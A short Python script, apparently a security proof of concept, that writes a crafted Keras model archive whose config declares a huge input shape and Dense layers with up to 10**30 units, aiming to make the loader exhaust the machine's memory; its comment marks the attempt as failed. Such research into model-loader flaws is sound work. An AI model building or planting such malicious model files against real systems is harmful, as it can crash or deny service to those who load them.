# failed: a few bytes make the loader build a layer that fills the machine
import json
import zipfile

layers = [
    {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 10_000, 10_000, 10_000]}}
]
layers += [
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": units, "use_bias": True}}
    for units in (10**7, 10**30)
]
with zipfile.ZipFile("/evidence/model.keras", "w") as archive:
    archive.writestr(
        "config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": layers}})
    )
